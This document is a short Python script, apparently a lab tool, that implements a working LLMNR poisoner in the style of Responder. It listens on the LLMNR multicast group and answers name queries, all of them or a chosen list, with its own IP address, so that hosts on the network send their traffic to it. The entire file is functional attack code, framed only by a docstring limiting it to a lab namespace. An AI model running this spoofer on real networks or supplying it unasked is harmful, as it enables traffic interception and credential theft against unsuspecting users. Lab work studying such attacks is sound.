#!/usr/bin/python3
"""Responder-like LLMNR poisoner (the f3 lab's device): answers every LLMNR A query for the names in argv[2:]
(or any name if none) with its own address argv[1]. Only inside the lab's namespace."""
import socket, struct, sys
me = sys.argv[1]; names = {n.lower() for n in sys.argv[2:]}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 5355))
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + socket.inet_aton(me))
while True:
    q, peer = s.recvfrom(2048)
    if len(q) < 12 or q[2] & 0x80: continue
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace")); i += 1 + q[i]
    qname_end = i + 1 + 4
    if names and ".".join(labels).lower() not in names: continue
    ans = q[:2] + struct.pack(">HHHHH", 0x8000, 1, 1, 0, 0) + q[12:qname_end] + q[12:i + 1] + struct.pack(">HHIH", 1, 1, 30, 4) + socket.inet_aton(me)
    s.sendto(ans, peer)
